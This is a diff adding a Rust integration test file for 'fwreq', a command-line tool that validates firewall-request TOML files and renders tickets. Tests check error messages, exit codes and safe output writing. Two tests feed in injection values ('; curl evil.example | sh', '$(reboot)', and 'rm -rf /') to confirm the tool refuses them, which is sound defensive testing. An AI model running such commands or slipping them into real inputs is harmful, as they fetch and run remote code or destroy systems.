@@ -1,0 +1,447 @@
+//! CLI sessions: what an engineer types, what fwreq prints, and the exit code.
+
+// Test helpers may panic: a panic is how a test reports failure.
+#![allow(clippy::unwrap_used)]
+
+use assert_cmd::cargo::cargo_bin_cmd;
+use predicates::prelude::*;
+use std::fs;
+use std::path::{Path, PathBuf};
+
+/// The keys every request needs, before its `[[rules]]`.
+const HEADER: &str = r#"title = "t"
+project = "p"
+request = "r"
+reason = "r"
+affected_apps = ["a"]
+justification = "j"
+"#;
+
+/// A valid one-rule request.
+fn valid() -> String {
+    format!("{HEADER}[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n")
+}
+
+fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
+    let path = dir.join(name);
+    fs::write(&path, text).unwrap();
+    path
+}
+
+/// Runs `fwreq check` on one spec; returns (exit code, stderr).
+fn check(text: &str) -> (i32, String) {
+    let dir = tempfile::tempdir().unwrap();
+    let path = write(dir.path(), "req.toml", text);
+    let out = cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["check", "req.toml"])
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap();
+    drop(path);
+    (
+        out.status.code().unwrap(),
+        String::from_utf8(out.stderr).unwrap(),
+    )
+}
+
+#[test]
+fn each_kind_of_bad_input_is_reported_at_its_value() {
+    let rule = |body: &str| format!("{HEADER}[[rules]]\n{body}\n");
+    let cases: Vec<(&str, String, &str)> = vec![
+        (
+            "bad TOML",
+            "title = \"t\"\nproject = \n".into(),
+            "req.toml:2:11: error: string values must be quoted, expected literal string",
+        ),
+        (
+            "unterminated string",
+            "title = \"t\nproject = \"p\"\n".into(),
+            "req.toml:1:11: error: invalid basic string, expected `\"`",
+        ),
+        (
+            "missing key",
+            HEADER.replace("reason = \"r\"\n", "")
+                + "[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n",
+            "req.toml:1:1: error: missing required key `reason`",
+        ),
+        (
+            "missing destinations in a rule",
+            rule("ports = [443]"),
+            "req.toml:7:1: error: missing required key `destinations`",
+        ),
+        (
+            "unknown key",
+            rule("ports = [443]\ndestination = [\"a.example.com\"]"),
+            "req.toml:9:1: error: unknown field `destination`, expected one of `comment`, `protocol`, `ports`, `action`, `sources`, `destinations`",
+        ),
+        (
+            "wrong type",
+            rule("ports = \"443\"\ndestinations = [\"a.example.com\"]"),
+            "req.toml:8:9: error: invalid type: string \"443\", expected a sequence",
+        ),
+        (
+            "port out of range",
+            rule("ports = [443, 70000]\ndestinations = [\"a.example.com\"]"),
+            "req.toml:8:15: error: port 70000 is out of range",
+        ),
+        (
+            "backwards port range",
+            rule("ports = [\"9000-8000\"]\ndestinations = [\"a.example.com\"]"),
+            "req.toml:8:10: error: range \"9000-8000\" runs backwards",
+        ),
+        (
+            "ports on icmp",
+            rule("protocol = \"icmp\"\nports = [443]\ndestinations = [\"a.example.com\"]"),
+            "req.toml:9:9: error: icmp has no ports",
+        ),
+        (
+            "unknown protocol",
+            rule("protocol = \"tpc\"\nports = [443]\ndestinations = [\"a.example.com\"]"),
+            "req.toml:8:12: error: unknown variant `tpc`, expected one of `tcp`, `udp`, `icmp`",
+        ),
+        (
+            "bad hostname",
+            rule("ports = [443]\ndestinations = [\"a.example.com\", \"bad_host.example.com\"]"),
+            "req.toml:9:34: error: `_` is not allowed in a hostname: `bad_host.example.com`",
+        ),
+        (
+            "wildcard in the middle",
+            rule("ports = [443]\ndestinations = [\"foo.*.example.com\"]"),
+            "req.toml:9:17: error: `foo.*.example.com`: `*` may only stand at the start of the first label",
+        ),
+        (
+            "CIDR with host bits",
+            rule("ports = [443]\ndestinations = [\"52.94.1.0/16\"]"),
+            "req.toml:9:17: error: `52.94.1.0/16` has host bits set",
+        ),
+        (
+            "probe outside its wildcard",
+            rule(
+                "ports = [443]\ndestinations = [{ host = \"*.pkg.dev\", probe = \"a.example.com\" }]",
+            ),
+            "req.toml:9:47: error: probe `a.example.com` is not covered by the wildcard",
+        ),
+        (
+            "bad REQ number",
+            HEADER.to_string()
+                + "req = \"REQ12345678\"\n[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n",
+            "req.toml:7:7: error: `REQ12345678` is not a REQ number",
+        ),
+        (
+            "date without a time",
+            HEADER.to_string()
+                + "submitted = 2025-03-14\n[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n",
+            "req.toml:7:13: error: `submitted` needs a date and a time",
+        ),
+        (
+            "empty destinations",
+            rule("ports = [443]\ndestinations = []"),
+            "req.toml:9:16: error: `destinations` is empty",
+        ),
+    ];
+    for (kind, text, want) in cases {
+        let (code, stderr) = check(&text);
+        assert_eq!(code, 1, "{kind}: exit code\n{stderr}");
+        assert_eq!(stderr.lines().next(), Some(want), "{kind}:\n{stderr}");
+    }
+}
+
+#[test]
+fn a_bad_ritm_number_gets_an_excerpt_a_caret_and_help() {
+    let text = HEADER.to_string()
+        + "ritm = \"RITM123\"\n[[rules]]\nports = [443]\ndestinations = [\"a.example.com\"]\n";
+    let (code, stderr) = check(&text);
+    assert_eq!(code, 1);
+    assert_eq!(
+        stderr,
+        "req.toml:7:8: error: `RITM123` is not a RITM number
+  |
+7 | ritm = \"RITM123\"
+  |        ^^^^^^^^^
+  = help: write RITM and seven digits, e.g. RITM0194104
+checked 1 request: 1 error, 0 warnings
+"
+    );
+}
+
+#[test]
+fn unknown_keys_suggest_the_nearest_one() {
+    let text = format!("{HEADER}[[rules]]\nports = [443]\ndestination = [\"a.example.com\"]\n");
+    let (_, stderr) = check(&text);
+    assert!(
+        stderr.contains("= help: did you mean `destinations`?"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn shell_injection_in_a_destination_is_refused_and_nothing_is_rendered() {
+    let dir = tempfile::tempdir().unwrap();
+    let text = format!(
+        "{HEADER}[[rules]]\nports = [443]\ndestinations = [\"a.example.com; curl evil.example | sh\", \"$(reboot).example.com\"]\n"
+    );
+    write(dir.path(), "req.toml", &text);
+    cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["render", "req.toml"])
+        .assert()
+        .code(1)
+        .stdout("")
+        .stderr(predicate::str::starts_with(
+            "req.toml:9:17: error: `;` is not allowed in a destination",
+        ))
+        .stderr(predicate::str::contains(
+            "req.toml:9:58: error: `$` is not allowed in a destination",
+        ));
+}
+
+#[test]
+fn a_newline_in_a_comment_cannot_add_a_shell_line() {
+    let text = format!(
+        "{HEADER}[[rules]]\ncomment = \"\"\"ok\nrm -rf /\"\"\"\nports = [443]\ndestinations = [\"a.example.com\"]\n"
+    );
+    let (code, stderr) = check(&text);
+    assert_eq!(code, 1);
+    assert!(
+        stderr.starts_with("req.toml:8:11: error: `comment` must be a single line"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn every_file_is_checked_even_after_a_bad_one() {
+    let dir = tempfile::tempdir().unwrap();
+    fs::create_dir(dir.path().join("nested")).unwrap();
+    write(dir.path(), "a.toml", "title = \n");
+    write(dir.path(), "b.toml", &valid());
+    write(
+        &dir.path().join("nested"),
+        "c.toml",
+        &valid().replace("443", "0"),
+    );
+    write(dir.path(), "notes.txt", "not a request");
+    cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["check", "."])
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains("./a.toml:1:9: error:"))
+        .stderr(predicate::str::contains(
+            "./nested/c.toml:8:10: error: port 0 is not a real port",
+        ))
+        .stderr(predicate::str::ends_with(
+            "checked 3 requests: 2 errors, 0 warnings\n",
+        ));
+}
+
+#[test]
+fn empty_and_non_utf8_files_get_an_error_not_a_panic() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "empty.toml", "");
+    fs::write(dir.path().join("binary.toml"), b"title = \"\xff\"\n").unwrap();
+    cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["check", "empty.toml", "binary.toml"])
+        .assert()
+        .code(1)
+        .stderr(predicate::str::contains(
+            "empty.toml:1:1: error: the file is empty",
+        ))
+        .stderr(predicate::str::contains(
+            "binary.toml:1:10: error: the file is not UTF-8 text",
+        ));
+}
+
+#[test]
+fn check_of_a_clean_request_prints_only_the_summary() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "req.toml", &valid());
+    cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["check", "req.toml"])
+        .assert()
+        .success()
+        .stdout("")
+        .stderr("checked 1 request: 0 errors, 0 warnings\n");
+}
+
+#[test]
+fn a_missing_file_is_an_io_error_with_exit_2() {
+    cargo_bin_cmd!("fwreq")
+        .args(["check", "does-not-exist.toml"])
+        .assert()
+        .code(2)
+        .stderr(predicate::str::contains(
+            "does-not-exist.toml: no such file or directory",
+        ));
+    cargo_bin_cmd!("fwreq")
+        .args(["render", "does-not-exist.toml"])
+        .assert()
+        .code(2)
+        .stderr(predicate::str::starts_with(
+            "fwreq: error: cannot read does-not-exist.toml",
+        ));
+}
+
+#[test]
+fn usage_errors_exit_2() {
+    cargo_bin_cmd!("fwreq").arg("render").assert().code(2);
+    cargo_bin_cmd!("fwreq").arg("frobnicate").assert().code(2);
+}
+
+#[test]
+fn several_files_are_separated_by_a_rule_line() {
+    let dir = tempfile::tempdir().unwrap();
+    write(
+        dir.path(),
+        "a.toml",
+        &valid().replace("title = \"t\"", "title = \"First\""),
+    );
+    write(
+        dir.path(),
+        "b.toml",
+        &valid().replace("title = \"t\"", "title = \"Second\""),
+    );
+    let out = cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["render", "a.toml", "b.toml"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    let bodies: Vec<&str> = stdout.split("\n---\n").collect();
+    assert_eq!(bodies.len(), 2);
+    assert!(bodies[0].starts_with("# First\n"));
+    assert!(bodies[1].starts_with("# Second\n"));
+}
+
+#[test]
+fn output_file_is_written_whole_and_never_clobbered_without_force() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "req.toml", &valid());
+    let run = |args: &[&str]| {
+        cargo_bin_cmd!("fwreq")
+            .current_dir(dir.path())
+            .args(args)
+            .assert()
+    };
+
+    run(&["render", "req.toml", "-o", "ticket.md"])
+        .success()
+        .stdout("");
+    let first = fs::read_to_string(dir.path().join("ticket.md")).unwrap();
+    assert!(first.starts_with("# t\n"));
+
+    fs::write(dir.path().join("ticket.md"), "my notes").unwrap();
+    run(&["render", "req.toml", "-o", "ticket.md"])
+        .code(2)
+        .stderr(predicate::str::contains(
+            "ticket.md already exists; add --force to replace it",
+        ));
+    assert_eq!(
+        fs::read_to_string(dir.path().join("ticket.md")).unwrap(),
+        "my notes"
+    );
+
+    run(&["render", "req.toml", "-o", "ticket.md", "--force"]).success();
+    assert_eq!(
+        fs::read_to_string(dir.path().join("ticket.md")).unwrap(),
+        first
+    );
+
+    // A bad spec leaves no file behind.
+    write(dir.path(), "bad.toml", &valid().replace("443", "70000"));
+    run(&["render", "bad.toml", "-o", "bad.md"]).code(1);
+    assert!(!dir.path().join("bad.md").exists());
+    let mut names: Vec<_> = fs::read_dir(dir.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .collect();
+    names.sort();
+    assert_eq!(
+        names,
+        ["bad.toml", "req.toml", "ticket.md"],
+        "no temporary file is left"
+    );
+}
+
+#[test]
+fn team_templates_override_the_embedded_ones_file_by_file() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "req.toml", &valid());
+    fs::create_dir(dir.path().join("tpl")).unwrap();
+    write(
+        &dir.path().join("tpl"),
+        "details.md.j2",
+        "## Checks\n{% for rule in checks %}{% for d in rule.destinations %}{% for c in d.checks %}- `{{ c.command }}`\n{% endfor %}{% endfor %}{% endfor %}",
+    );
+    let out = cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["render", "req.toml", "--templates", "tpl"])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    assert!(out.status.success());
+    assert!(
+        stdout.contains("## Checks\n- `curl -vv telnet://a.example.com:443`\n"),
+        "{stdout}"
+    );
+    // The embedded ticket and key points are still used.
+    assert!(stdout.starts_with("# t\n"));
+    assert!(stdout.contains("## Key points about the firewall rule\n"));
+}
+
+#[test]
+fn a_broken_team_template_names_the_template_and_line() {
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "req.toml", &valid());
+    fs::create_dir(dir.path().join("tpl")).unwrap();
+    write(
+        &dir.path().join("tpl"),
+        "details.md.j2",
+        "line one\n{{ no_such_value }}\n",
+    );
+    cargo_bin_cmd!("fwreq")
+        .current_dir(dir.path())
+        .args(["render", "req.toml", "--templates", "tpl"])
+        .assert()
+        .code(2)
+        .stdout("")
+        .stderr(predicate::str::contains("details.md.j2:2"))
+        .stderr(predicate::str::contains("no_such_value"));
+}
+
+#[test]
+fn rendering_is_deterministic() {
+    let run = || {
+        cargo_bin_cmd!("fwreq")
+            .args(["render", "requests/avilla-calico-registry.toml"])
+            .output()
+            .unwrap()
+            .stdout
+    };
+    assert_eq!(run(), run());
+}
+
+#[test]
+fn help_and_version_speak_to_a_network_engineer() {
+    cargo_bin_cmd!("fwreq")
+        .arg("--version")
+        .assert()
+        .success()
+        .stdout(format!("fwreq {}\n", env!("CARGO_PKG_VERSION")));
+    cargo_bin_cmd!("fwreq")
+        .arg("help")
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("render"))
+        .stdout(predicate::str::contains("check"))
+        .stdout(predicate::str::contains("Exit codes"));
+    cargo_bin_cmd!("fwreq")
+        .args(["render", "--help"])
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("--output <PATH>"))
+        .stdout(predicate::str::contains("--templates <DIR>"));
+}
